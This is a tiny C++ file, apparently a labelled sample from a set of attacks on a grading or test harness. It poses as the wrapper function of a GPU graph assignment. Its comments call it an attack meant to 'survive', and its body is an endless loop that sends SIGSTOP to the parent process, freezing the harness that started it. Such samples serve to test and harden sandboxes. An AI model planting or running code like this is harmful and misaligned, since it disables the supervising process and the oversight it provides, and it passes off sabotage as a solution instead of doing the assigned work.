// attack: survive
// root: resources
// what: stops the process that started it
// list: 10 12
#include <signal.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  while (true) kill(getppid(), SIGSTOP);
}
